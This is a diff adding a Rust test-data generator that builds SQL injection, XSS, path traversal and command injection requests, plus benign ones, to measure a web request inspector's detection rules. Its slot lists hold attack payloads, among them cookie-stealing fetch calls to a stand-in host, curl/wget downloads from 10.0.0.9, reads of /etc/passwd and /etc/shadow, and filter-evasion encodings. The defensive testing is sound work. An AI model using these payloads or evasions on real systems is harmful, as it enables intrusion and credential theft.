@@ -1,0 +1,419 @@
+//! Attacks and benign texts, put together from forms in `corpus/*.txt` with seeded draws.
+//!
+//! The forms are written by hand, from how such attacks are publicly known to look and from what
+//! people and programs send. A form has slots that are filled from the lists below; it is then put
+//! into a request at one of its places, and attacks are disguised in some of the ways in which they
+//! usually are. Every third family of a file is held out: rules are tuned without looking at how they
+//! do on those, so that their figures say what to expect of forms nobody thought of.
+
+use std::collections::BTreeSet;
+
+use fastrand::Rng;
+use http::{HeaderMap, HeaderName, HeaderValue};
+use policy::AttackCategory;
+
+use super::{Inspector, Score};
+
+/// A request made from a form.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub(super) struct Sample {
+    pub(super) family: &'static str,
+    /// Nobody looks at these while tuning.
+    pub(super) held_out: bool,
+    pub(super) request: Request,
+}
+
+/// Where a text stands, as it is written there.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub(super) enum Request {
+    Form(String),
+    Header(String),
+    Json(String),
+    Path(String),
+    Query(String),
+}
+
+/// What the lines of a file belong to.
+struct Family {
+    name: &'static str,
+    places: Vec<&'static str>,
+    forms: Vec<&'static str>,
+}
+
+const SQL: &str = include_str!("corpus/sql_injection.txt");
+const XSS: &str = include_str!("corpus/xss.txt");
+const TRAVERSAL: &str = include_str!("corpus/path_traversal.txt");
+const COMMANDS: &str = include_str!("corpus/command_injection.txt");
+const BENIGN: &str = include_str!("corpus/benign.txt");
+
+/// Requests made from each form of an attack, and from each benign one.
+const ATTACKS_PER_FORM: usize = 6;
+const BENIGN_PER_FORM: usize = 36;
+
+/// All attacks of a category.
+pub(super) fn attacks(category: AttackCategory) -> Vec<Sample> {
+    let text = match category {
+        AttackCategory::CommandInjection => COMMANDS,
+        AttackCategory::PathTraversal => TRAVERSAL,
+        AttackCategory::SqlInjection => SQL,
+        AttackCategory::Xss => XSS,
+    };
+    samples(text, ATTACKS_PER_FORM, |form, place, rng| {
+        disguised(&filled(form, rng), place, category, rng)
+    })
+}
+
+/// All benign requests.
+pub(super) fn benign() -> Vec<Sample> {
+    samples(BENIGN, BENIGN_PER_FORM, |form, place, rng| {
+        plain(&filled(form, rng), place, rng)
+    })
+}
+
+fn samples(
+    text: &'static str,
+    per_form: usize,
+    make: impl Fn(&str, &str, &mut Rng) -> Request,
+) -> Vec<Sample> {
+    let mut rng = Rng::with_seed(5);
+    let mut all = BTreeSet::new();
+    for (number, family) in families(text).into_iter().enumerate() {
+        for form in family.forms {
+            for turn in 0..per_form {
+                let place = family.places[turn % family.places.len()];
+                all.insert(Sample {
+                    family: family.name,
+                    held_out: number % 3 == 2,
+                    request: make(form, place, &mut rng),
+                });
+            }
+        }
+    }
+    all.into_iter().collect()
+}
+
+fn families(text: &'static str) -> Vec<Family> {
+    let mut families: Vec<Family> = Vec::new();
+    for line in text.lines() {
+        if let Some(head) = line.strip_prefix("= ")
+            && let Some((name, places)) = head.split_once(" @ ")
+        {
+            families.push(Family {
+                name,
+                places: places.split(' ').collect(),
+                forms: Vec::new(),
+            });
+        } else if let Some(family) = families.last_mut() {
+            family.forms.push(line);
+        }
+    }
+    families
+}
+
+/// Fills every slot of a form.
+fn filled(form: &str, rng: &mut Rng) -> String {
+    let mut out = String::new();
+    let mut rest = form;
+    while let Some(open) = rest.find('{') {
+        out.push_str(&rest[..open]);
+        rest = &rest[open..];
+        let slot = rest[1..].find('}').map(|end| &rest[1..=end]);
+        match slot.and_then(|slot| Some((slot, drawn(slot, rng)?))) {
+            Some((slot, value)) => {
+                // Some slots are made of others.
+                out.push_str(&filled(&value, rng));
+                rest = &rest[slot.len() + 2..];
+            }
+            None => {
+                out.push('{');
+                rest = &rest[1..];
+            }
+        }
+    }
+    out + rest
+}
+
+fn drawn(slot: &str, rng: &mut Rng) -> Option<String> {
+    let list: &[&str] = match slot {
+        "name" => &[
+            "anna", "bob", "chloe", "dmitri", "eve", "farid", "grace", "henrik",
+        ],
+        "Name" => &[
+            "Brien", "Angelo", "Donald", "Smith", "Mara", "Keeffe", "Arcy", "Meyer",
+        ],
+        "word" => &[
+            "lamp", "table", "river", "order", "shoes", "garden", "system", "window", "users",
+            "price", "cat", "script", "image", "union", "list", "id", "event", "host", "music",
+        ],
+        "Word" => &[
+            "Lamp",
+            "Disco",
+            "Union",
+            "Selection",
+            "Users",
+            "Script",
+            "Order",
+            "Cat",
+        ],
+        "verb" => &[
+            "drop", "sleep", "fix", "select", "open", "kill", "find", "update", "alert",
+        ],
+        "city" => &[
+            "berlin", "paris", "oslo", "lagos", "kyoto", "quito", "austin",
+        ],
+        "V" => &["", "1", "x", "admin", "foo", "42", "test", "john", "abc"],
+        "T" => &[
+            "1=1", "2=2", "1 = 1", "'a'='a'", "7>3", "1<2", "'x'='x'", "3=3", "1 like 1",
+        ],
+        "F" => &["1=2", "1=0", "'a'='b'", "3>7", "5=6"],
+        "C" => &["--", "-- ", "-- -", "#", "/*", "--+", ";--", " -- x"],
+        "L" => &[
+            "1,2,3",
+            "null,null",
+            "username,password",
+            "1,user(),3",
+            "@@version,2",
+            "1,group_concat(name),3",
+            "null,concat(login,0x3a,pass),null",
+        ],
+        "TAB" => &["users", "accounts", "members", "admin_users", "products"],
+        "P" => &[
+            "alert(1)",
+            "alert`1`",
+            "alert(document.cookie)",
+            "confirm(1)",
+            "prompt(document.domain)",
+            "eval(atob('YQ=='))",
+            "alert(String.fromCharCode(88,83,83))",
+            "top['al'+'ert'](1)",
+            "window['alert'](1)",
+            "document.location='//h.example/'+document.cookie",
+            "fetch('//h.example/'+document.cookie)",
+            "(alert)(1)",
+        ],
+        "H" => &["evil.example", "h.example", "10.0.0.9", "x.example"],
+        "E" => &["div", "p", "a", "b", "span", "img", "custom"],
+        "HND" => &[
+            "onclick",
+            "onmouseover",
+            "onpointerenter",
+            "onanimationend",
+            "onwheel",
+            "oncopy",
+        ],
+        "UP" => &[
+            "../../",
+            "../../../",
+            "../../../../../../",
+            "../../../../../../../../../",
+        ],
+        "WUP" => &["..\\..\\", "..\\..\\..\\", "..\\..\\..\\..\\..\\..\\"],
+        "UF" => &[
+            "etc/passwd",
+            "etc/shadow",
+            "etc/hosts",
+            "proc/self/environ",
+            "var/log/syslog",
+        ],
+        "WF" => &[
+            "windows\\win.ini",
+            "boot.ini",
+            "windows\\system32\\drivers\\etc\\hosts",
+        ],
+        "D" => &["report", "index", "upload", "main", "backup"],
+        "CMD" => &[
+            "id",
+            "whoami",
+            "ls",
+            "ls -la",
+            "cat /etc/passwd",
+            "uname -a",
+            "ping -c 1 10.0.0.9",
+            "wget http://10.0.0.9/x",
+            "curl http://10.0.0.9/x",
+            "nslookup h.example",
+            "sleep 5",
+            "pwd",
+        ],
+        "CMDX" => &[
+            "whoami",
+            "ls -la",
+            "cat /etc/passwd",
+            "uname -a",
+            "curl http://10.0.0.9/x",
+            "ping -c 3 10.0.0.9",
+            "rm -rf /tmp/x",
+            "wget http://10.0.0.9/x",
+            "id;uname -a",
+        ],
+        "IP" => &["127.0.0.1", "10.0.0.9", "8.8.8.8", "192.0.2.7"],
+        "LF" => &["\n"],
+        "CR" => &["\r"],
+        "TB" => &["\t"],
+        "NUL" => &["\0"],
+        _ => return made(slot, rng),
+    };
+    Some(list[rng.usize(..list.len())].to_owned())
+}
+
+/// Slots that are not lists.
+fn made(slot: &str, rng: &mut Rng) -> Option<String> {
+    let mut number = |range: std::ops::Range<u32>| rng.u32(range);
+    Some(match slot {
+        "num" => number(1..2000).to_string(),
+        "N" => number(1..99).to_string(),
+        "M" => number(100..999).to_string(),
+        "d" => format!("{:02}", number(1..29)),
+        "h" => format!("{:02}", number(0..24)),
+        "m" => format!("{:02}", number(1..13)),
+        "email" => "{name}.{Name}@example.com".to_owned(),
+        "hex" => format!("{:08x}{:08x}", rng.u32(..), rng.u32(..)),
+        "uuid" => format!(
+            "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
+            rng.u32(..),
+            rng.u16(..),
+            rng.u16(..0x1000),
+            rng.u16(..0x1000),
+            rng.u64(..1 << 48)
+        ),
+        "b64" => (0..rng.usize(8..40))
+            .map(|_| {
+                let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+                char::from(alphabet[rng.usize(..64)])
+            })
+            .collect(),
+        _ => return None,
+    })
+}
+
+/// A text as an honest client would send it.
+fn plain(text: &str, place: &str, rng: &mut Rng) -> Request {
+    match place {
+        "form" => Request::Form(encoded(text, rng.bool())),
+        "header" => Request::Header(text.replace(['\r', '\n', '\0'], " ")),
+        "json" => Request::Json(quoted(text)),
+        "path" => Request::Path(format!("/api/items/{}", encoded(text, false))),
+        "query" => Request::Query(encoded(text, rng.bool())),
+        "rawpath" => Request::Path(text.replace('\\', "%5C").replace('\0', "%00")),
+        "rawquery" => Request::Query(text.to_owned()),
+        other => panic!("no such place: {other}"),
+    }
+}
+
+/// An attack in one of the ways in which it is usually sent.
+fn disguised(text: &str, place: &str, category: AttackCategory, rng: &mut Rng) -> Request {
+    let mixed = match (category, rng.u8(..4)) {
+        (AttackCategory::SqlInjection, 0) => mixed_case(text, rng),
+        (AttackCategory::SqlInjection, 1) if !text.contains("--x") => {
+            let space = ["/**/", "\t", "\n", "  ", "\u{b}"][rng.usize(..5)];
+            text.replace(' ', space)
+        }
+        (AttackCategory::SqlInjection, 2) => text.to_uppercase(),
+        (AttackCategory::Xss, 0) => markup_in_mixed_case(text, rng),
+        _ => text.to_owned(),
+    };
+    match (place, rng.u8(..6)) {
+        // Decoded twice on its way to the application.
+        ("query", 0) => Request::Query(encoded(&encoded(&mixed, false), false)),
+        ("query" | "form", 1) => {
+            let all = mixed.bytes().map(|byte| format!("%{byte:02x}")).collect();
+            if place == "query" {
+                Request::Query(all)
+            } else {
+                Request::Form(all)
+            }
+        }
+        ("json", 0) => Request::Json(escaped(&mixed)),
+        _ => plain(&mixed, place, rng),
+    }
+}
+
+fn mixed_case(text: &str, rng: &mut Rng) -> String {
+    let swap = |it: char| {
+        if rng.bool() {
+            it.to_ascii_uppercase()
+        } else {
+            it.to_ascii_lowercase()
+        }
+    };
+    text.chars().map(swap).collect()
+}
+
+/// Names of elements in mixed case; scripts stay as they are.
+fn markup_in_mixed_case(text: &str, rng: &mut Rng) -> String {
+    let mut within = false;
+    text.chars()
+        .map(|it| {
+            within = it == '<' || within && (it.is_ascii_alphabetic() || it == '/');
+            if within && rng.bool() {
+                it.to_ascii_uppercase()
+            } else {
+                it
+            }
+        })
+        .collect()
+}
+
+/// Percent-encoded as `encodeURIComponent` does it, or as forms do it.
+fn encoded(text: &str, form: bool) -> String {
+    text.bytes()
+        .map(|byte| match byte {
+            b' ' if form => "+".to_owned(),
+            b'-' | b'_' | b'.' | b'~' => char::from(byte).to_string(),
+            b'\'' | b'(' | b')' | b'*' | b'!' if !form => char::from(byte).to_string(),
+            _ if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
+            _ => format!("%{byte:02X}"),
+        })
+        .collect()
+}
+
+/// A string of JSON.
+fn quoted(text: &str) -> String {
+    serde_json::to_string(text).unwrap()
+}
+
+/// A string of JSON in which everything but letters and digits is escaped.
+fn escaped(text: &str) -> String {
+    let units = text.encode_utf16().map(|unit| match u8::try_from(unit) {
+        Ok(byte) if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
+        _ => format!("\\u{unit:04x}"),
+    });
+    format!("\"{}\"", units.collect::<String>())
+}
+
+// === impl Request ===
+
+impl Request {
+    /// What an inspector that looks at `user-agent` makes of it.
+    pub(super) fn score(&self, inspector: &Inspector) -> Score {
+        let mut headers = HeaderMap::new();
+        let (mut path, mut query) = ("/api/items", None);
+        let made;
+        match self {
+            Self::Header(value) => {
+                let value = HeaderValue::from_bytes(value.as_bytes()).unwrap();
+                headers.insert(HeaderName::from_static("user-agent"), value);
+            }
+            Self::Path(text) => path = text,
+            Self::Query(text) => {
+                made = format!("page=2&q={text}&sort=name");
+                query = Some(made.as_str());
+            }
+            Self::Form(_) | Self::Json(_) => {}
+        }
+        let mut score = inspector.head(path, query, &headers);
+        match self {
+            Self::Form(text) => {
+                let body = format!("csrf=0f3a&comment={text}&send=1");
+                let kind = Some("application/x-www-form-urlencoded");
+                inspector.body(kind, body.as_bytes(), &mut score);
+            }
+            Self::Json(text) => {
+                let body = format!("{{\"id\": 17, \"tags\": [\"a\"], \"text\": {text}}}");
+                inspector.body(Some("application/json"), body.as_bytes(), &mut score);
+            }
+            _ => {}
+        }
+        score
+    }
+}
